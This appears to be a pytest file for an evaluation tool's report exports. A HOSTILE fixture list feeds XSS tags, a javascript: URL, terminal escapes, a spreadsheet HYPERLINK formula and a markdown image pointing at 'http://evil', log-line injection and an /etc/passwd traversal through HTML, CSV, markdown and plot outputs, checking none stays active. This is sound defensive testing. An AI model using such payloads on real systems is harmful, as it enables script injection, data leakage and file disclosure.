"""A report in all its forms: the numbers are right, and nothing from a file acts as markup."""

import csv
import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from faithsieve.errors import InputError
from faithsieve.evaluate.costs import cost_ratio, sum_costs
from faithsieve.evaluate.exports import rows_csv, scores_csv
from faithsieve.evaluate.metrics import ProblemOutcome, outcome_of
from faithsieve.evaluate.paper_tables import report_tables
from faithsieve.evaluate.plots import draw_plots
from faithsieve.evaluate.report import Report, read_report
from faithsieve.evaluate.report_page import EVIDENCE, evidence_name, render_page
from faithsieve.evaluate.run_details import read_details
from faithsieve.evaluate.tables import markdown, plain_text
from faithsieve.records.cost import Cost, StageCost, TokenUsage
from faithsieve.records.proof import Label
from faithsieve.records.run import FailureKind, ProblemFailure, ProblemResult
from faithsieve.records.settings import BaselineSettings, Settings
from faithsieve.records.verdict import Verdict, VerdictKind
from support.judges import judging
from support.runs import make_dataset, sitting

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "\x1b[2J\x1b]0;pwn\x07",
    '=HYPERLINK("http://evil","x")',
    "![x](http://evil/?leak=1)",
    "line\nINFO verdict=correct",
    "../../../etc/passwd",
]


def result(
    label: Label | None, gold: Label | None, *, id: str = "p", stages: tuple[StageCost, ...] = ()
) -> ProblemResult:
    cost = Cost(stages=stages)
    if label is None:
        failure = ProblemFailure(kind=FailureKind.PARSE, type="x", message="", cost=cost)
        return ProblemResult(id=id, gold=gold, failure=failure, seconds=2.0)
    kind = VerdictKind.CORRECT if label == "correct" else VerdictKind.FIRST_ERROR
    verdict = Verdict(label=label, kind=kind, rationale="", cost=cost)
    return ProblemResult(id=id, gold=gold, verdict=verdict, seconds=2.0)


@pytest.mark.parametrize(
    ("label", "gold", "outcome"),
    [
        (2, 2, "exact"),
        ("correct", "correct", "exact"),
        (1, 2, "wrong-place"),
        (1, "correct", "false-positive"),
        ("correct", 1, "false-negative"),
        (None, 1, "failed"),
        (None, None, "failed"),
        (1, None, "unlabelled"),
    ],
)
def test_every_problem_has_one_outcome(
    label: Label | None, gold: Label | None, outcome: str
) -> None:
    assert outcome_of(result(label, gold)) is ProblemOutcome(outcome)


def stage(name: str, tokens: int, *, usd: float | None = 0.5, seconds: float = 0.5) -> StageCost:
    usage = TokenUsage(input_tokens=tokens, output_tokens=1, cached_tokens=2)
    return StageCost(stage=name, calls=1, usage=usage, cost_usd=usd, seconds=seconds)


def test_costs_add_up_by_stage_and_failed_problems_cost_too() -> None:
    cost = sum_costs(
        [
            result(1, 1, stages=(stage("a", 9),)),
            result(None, 1, stages=(stage("a", 9), stage("b", 4))),
        ]
    )
    assert [(s.stage, s.calls, s.usage.input_tokens) for s in cost.stages] == [
        ("a", 2, 18),
        ("b", 1, 4),
    ]
    assert (cost.usage.total, cost.cost_usd) == (25, 1.5)
    assert (cost.model_s, cost.own_s, cost.wall_s) == (1.5, 2.5, 4.0)
    assert cost.tokens_per_problem == 12.5


def test_one_unknown_price_makes_the_sum_unknown_not_smaller() -> None:
    cost = sum_costs([result(1, 1, stages=(stage("a", 9), stage("b", 9, usd=None)))])
    assert cost.cost_usd is None


def test_waiting_side_by_side_never_makes_own_time_negative() -> None:
    cost = sum_costs([result(1, 1, stages=(stage("a", 9, seconds=30),))])
    assert cost.own_s == 0


def test_the_ratio_is_of_tokens_for_each_problem() -> None:
    one = sum_costs([result(1, 1, stages=(stage("a", 9),))])
    three = sum_costs([result(1, 1, stages=(stage("a", 29),))] * 4)
    assert cost_ratio(three, one) == 3.0
    assert cost_ratio(one, sum_costs([])) is None


def write_run(folder: Path, rows: list[dict[str, object]], *, method: str = "direct") -> Path:
    folder.mkdir(parents=True)
    (folder / "predictions.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    manifest = {"method": method, "model": HOSTILE[0], "dataset": HOSTILE[1], "problems": len(rows)}
    (folder / "manifest.json").write_text(json.dumps(manifest))
    return folder


def hostile_report(tmp_path: Path) -> tuple[Report, dict[str, Path]]:
    rows: list[dict[str, object]] = [
        {"id": text, "label": 1 if n % 2 else None, "gold": 1, "group": text,
         "failure": None if n % 2 else "parse_failure"}
        for n, text in enumerate(HOSTILE)
    ]  # fmt: skip
    folders = [
        write_run(tmp_path / '"><img src=x onerror=alert(1)>', rows),
        write_run(tmp_path / "[red]=1+1", rows, method=HOSTILE[0]),
    ]
    report = read_report(folders, with_tests=True)
    return report, dict(zip([run.name for run in report.runs], folders, strict=True))


class Elements(HTMLParser):
    """Every element and attribute of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def hostile_page(tmp_path: Path) -> str:
    report, folders = hostile_report(tmp_path)
    page = tmp_path / "report.html"
    return render_page(
        report, report_tables(report), draw_plots(report), folders=folders, page=page
    )


def test_no_text_of_a_run_becomes_an_element_or_a_link(tmp_path: Path) -> None:
    elements = Elements(hostile_page(tmp_path)).found
    assert not [tag for tag, _ in elements if tag in ("script", "a", "iframe", "object", "link")]
    assert not [attrs for _, attrs in elements if any(name.startswith("on") for name in attrs)]
    assert all(str(attrs["src"]).startswith("data:") for tag, attrs in elements if tag == "img")


def test_the_page_needs_no_network_and_forbids_scripts(tmp_path: Path) -> None:
    page = hostile_page(tmp_path)
    assert "default-src 'none'" in page
    assert not re.search(r"(?:src|href)=[\"']?(?:https?:)?//", page)
    assert "@import" not in page
    assert "url(" not in page


def test_no_control_character_reaches_page_terminal_or_markdown(tmp_path: Path) -> None:
    report, _ = hostile_report(tmp_path)
    texts = [hostile_page(tmp_path / "again")]
    texts += [plain_text(table) + markdown(table) for table in report_tables(report)]
    for text in texts:
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", text)


def test_markdown_loads_nothing_remote(tmp_path: Path) -> None:
    report, _ = hostile_report(tmp_path)
    text = "\n".join(markdown(table) for table in report_tables(report))
    assert not re.search(r"(?<!\\)\]\(", text)
    assert not re.search(r"(?<!\\)<script", text)
    assert not re.search(r"(?<!\\)<img", text)


@pytest.mark.parametrize("write", [rows_csv, scores_csv])
def test_no_cell_of_a_csv_file_is_a_formula(write: Callable[[Report], str], tmp_path: Path) -> None:
    report, _ = hostile_report(tmp_path)
    rows = list(csv.reader(write(report).splitlines()))
    assert len(rows) > 16
    assert len({len(row) for row in rows}) == 1
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]


def test_scores_go_to_csv_by_run_group_and_score(tmp_path: Path) -> None:
    rows: list[dict[str, object]] = [
        {"id": "p", "label": 1, "gold": 1, "group": "=cmd"},
        {"id": "q", "label": 1, "gold": "correct", "group": "Rings"},
        {"id": "r", "label": None, "gold": 1, "failure": "parse_failure"},
    ]
    report = read_report([write_run(tmp_path / "first", rows)], with_tests=False)
    lines = list(csv.DictReader(scores_csv(report).splitlines()))
    exact = {line["group"]: line for line in lines if line["metric"] == "exact"}
    assert list(exact) == ["(all)", "'=cmd", "Rings", "(no group)"]
    assert (exact["(all)"]["hits"], exact["(all)"]["total"]) == ("1", "3")
    metrics = {line["metric"] for line in lines}
    assert {"tp", "errors.wrong_place", "early", "failed.parse_failure"} <= metrics


def test_drawings_hold_names_as_text_only(tmp_path: Path) -> None:
    report, _ = hostile_report(tmp_path)
    for plot in draw_plots(report):
        assert "<script" not in plot.svg
        assert "<img" not in plot.svg
        assert plot.png.startswith(b"\x89PNG")


def test_a_filter_for_every_outcome_with_its_count(tmp_path: Path) -> None:
    page = hostile_page(tmp_path)
    assert "failed (8)" in page
    assert "exact (8)" in page
    assert ".problems:has(#show-failed:checked)" in page


def test_evidence_pages_that_exist_are_linked_by_relative_path(tmp_path: Path) -> None:
    row: dict[str, object] = {"id": "a/../b:c", "label": 1, "gold": 1}
    folder = write_run(tmp_path / "runs" / "one", [row, {"id": "q", "label": 1, "gold": 1}])
    (folder / EVIDENCE).mkdir()
    (folder / EVIDENCE / evidence_name("a/../b:c")).write_text("evidence")
    report = read_report([folder], with_tests=False)
    page = render_page(report, (), (), folders={"one": folder}, page=tmp_path / "r.html")
    links = [attrs["href"] for tag, attrs in Elements(page).found if tag == "a"]
    assert links == ["./runs/one/evidence/a%252F%252E%252E%252Fb%253Ac.html"]


async def test_stages_and_confidence_come_from_the_store(tmp_path: Path) -> None:
    dataset = make_dataset(4)
    settings = Settings(baselines=BaselineSettings(votes=2))
    for method in ("direct", "majority"):
        await sitting(tmp_path / method, dataset, judging(), settings=settings, method=method)
    report = read_report([tmp_path / "direct", tmp_path / "majority"], with_tests=True)
    direct, majority = report.runs
    assert (direct.has_stages, direct.calibration) == (True, None)
    assert majority.calibration is not None
    assert majority.calibration.ece == 1.0
    assert [s.stage for s in majority.cost.stages] == ["majority"]
    assert report.reference == 0
    assert [found.first for found in report.comparisons] == ["majority"]
    titles = [table.title for table in report_tables(report)]
    assert "Exact accuracy against direct, paired" in titles


async def test_a_line_that_was_edited_wins_over_the_store(tmp_path: Path) -> None:
    await sitting(tmp_path / "run", make_dataset(1), judging())
    lines = tmp_path / "run" / "predictions.jsonl"
    lines.write_text(lines.read_text().replace('"label": 2', '"label": 1'))
    (run,) = read_report([tmp_path / "run"], with_tests=False).runs
    assert run.run.results[0].label == 1


async def test_a_broken_store_costs_detail_only(tmp_path: Path) -> None:
    await sitting(tmp_path / "run", make_dataset(1), judging())
    (tmp_path / "run" / "store.sqlite").write_bytes(b"not a database")
    (run,) = read_report([tmp_path / "run"], with_tests=False).runs
    assert not run.has_stages
    assert run.run.results[0].label == 2


def test_unfinished_runs_say_so(tmp_path: Path) -> None:
    folder = write_run(tmp_path / "run", [{"id": "p", "label": 1, "gold": 1}])
    (folder / "manifest.json").write_text(json.dumps({"method": "direct", "problems": 5}))
    tables = report_tables(read_report([folder], with_tests=False))
    assert any("4 open problems not counted" in table.title for table in tables)


async def test_every_plot_has_data_when_runs_state_confidence_and_cost(tmp_path: Path) -> None:
    dataset, settings = make_dataset(4), Settings(baselines=BaselineSettings(votes=2))
    for method in ("direct", "majority"):
        await sitting(tmp_path / method, dataset, judging(), settings=settings, method=method)
        lines = tmp_path / method / "predictions.jsonl"
        rows = [
            json.loads(line) | {"tokens": 30, "gold": 1}
            for line in lines.read_text().split("\n")
            if line
        ]
        lines.write_text("".join(json.dumps(row) + "\n" for row in rows))
    report = read_report([tmp_path / "direct", tmp_path / "majority"], with_tests=False)
    assert {plot.name for plot in draw_plots(report)} == {"accuracy", "cost", "distances"}
    kept = read_report([tmp_path / "majority"], with_tests=False)
    assert kept.runs[0].calibration is None


async def test_confidence_is_drawn_against_what_happened(tmp_path: Path) -> None:
    settings = Settings(baselines=BaselineSettings(votes=2))
    await sitting(tmp_path / "m", make_dataset(3), judging(), settings=settings, method="majority")
    names = {plot.name for plot in draw_plots(read_report([tmp_path / "m"], with_tests=False))}
    assert {"reliability", "coverage"} <= names


def test_a_run_without_labels_has_no_plots_and_no_scores(tmp_path: Path) -> None:
    folder = write_run(tmp_path / "run", [{"id": "p", "label": None, "gold": None}])
    report = read_report([folder], with_tests=False)
    assert draw_plots(report) == ()
    assert any(table.title == "Main results" for table in report_tables(report))


@given(st.text(min_size=1, max_size=400), st.text(min_size=1, max_size=400))
@example("x" * 900, "x" * 901)
@example("../../etc/passwd", "..")
@example("a\x00b", "\ud800")
def test_any_id_gives_a_short_file_name_of_its_own(one: str, other: str) -> None:
    name = evidence_name(one)
    assert len(name.encode()) < 255
    assert re.fullmatch(r"[\w%~-]+\.html", name, re.ASCII)
    assert (name == evidence_name(other)) == (one == other)


async def test_details_come_from_the_run_s_own_store_or_one_the_user_names(tmp_path: Path) -> None:
    await sitting(tmp_path / "one", make_dataset(2), judging())
    (tmp_path / "bare").mkdir()
    found = read_details(tmp_path / "one")
    assert found is not None
    assert len(found.results) == 2
    assert read_details(tmp_path / "bare") is None
    with pytest.raises(InputError, match="does not hold the run"):
        read_details(tmp_path / "bare", store=str(tmp_path / "new.sqlite"))


async def test_a_shared_store_gives_each_run_its_own_details(tmp_path: Path) -> None:
    await sitting(tmp_path / "one", make_dataset(2), judging())
    shared = (tmp_path / "one" / "store.sqlite").rename(tmp_path / "shared.sqlite")
    found = read_report([tmp_path / "one"], with_tests=False, store=str(shared))
    assert found.runs[0].has_stages
    assert not read_report([tmp_path / "one"], with_tests=False).runs[0].has_stages
    other = write_run(tmp_path / "other", [{"id": "p0", "label": 1, "gold": 1}])
    with pytest.raises(InputError, match="does not hold the run"):
        read_report([other], with_tests=False, store=str(shared))
